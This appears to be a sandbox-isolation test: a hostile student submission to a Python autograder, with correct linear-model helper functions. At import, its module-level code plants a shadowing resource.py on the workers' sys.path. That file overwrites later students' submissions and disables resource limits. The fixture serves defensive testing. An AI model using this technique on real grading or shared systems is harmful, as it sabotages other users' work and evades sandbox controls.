"""Attack: at import, write resource.py beside the grader package (/work/main): a
folder on every worker's sys.path ahead of the standard library, and on the
sandbox's writable root, which is never swept. Each later worker imports
`resource` to set its limits before it imports its student's file: the planted
module then runs in the next students' workers, prints a marker, replaces their
linear_model.py with an empty module, and raises ImportError so that their
workers run without limits.

Expected: nothing one student writes reaches another student's worker; the
students graded after it score 100; this one scores 100 (its functions are
right).
"""

import os

import numpy as np

import grader

PLANTED = """
import os

os.write(1, b"hostile-planted-resource ran here\\n")
with open("/submission/linear_model.py", "w") as stream:
    stream.write('print("replaced by plant_module_on_pythonpath")\\n')
raise ImportError("no resource module, so no limits")
"""
# The folder that holds the grader package is on every worker's sys.path.
with open(
    os.path.join(os.path.dirname(os.path.dirname(grader.__file__)), "resource.py"), "w"
) as f:
    f.write(PLANTED)


def forward(x, w):
    return np.asarray(x, dtype=float) * w if isinstance(x, (list, tuple)) else x * w


def loss(x, y, w):
    return (x * w - y) ** 2


def mse(xs, ys, w):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    return float(np.mean((xs * w - ys) ** 2))


def exhaustive_search(xs, ys, w_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = [float(np.mean((xs * float(w) - ys) ** 2)) for w in w_grid]
    best = int(np.argmin(costs))
    return float(w_grid[best]), costs


def forward_affine(x, w, b):
    x = np.asarray(x, dtype=float) if isinstance(x, (list, tuple)) else x
    return x * w + b


def exhaustive_search_affine(xs, ys, w_grid, b_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = np.array(
        [
            [float(np.mean((xs * float(w) + float(b) - ys) ** 2)) for b in b_grid]
            for w in w_grid
        ]
    )
    i, j = np.unravel_index(int(np.argmin(costs)), costs.shape)
    return float(w_grid[i]), float(b_grid[j]), costs
